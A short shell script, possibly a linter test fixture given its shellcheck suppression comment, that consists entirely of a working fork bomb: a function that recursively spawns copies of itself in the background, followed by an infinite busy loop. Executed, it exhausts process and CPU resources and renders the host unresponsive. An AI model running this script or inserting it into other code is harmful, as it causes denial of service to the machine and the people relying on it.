#!/bin/sh
# shellcheck disable=SC2264 # that is what it is
bomb () { bomb | bomb & }
bomb
while :; do :; done
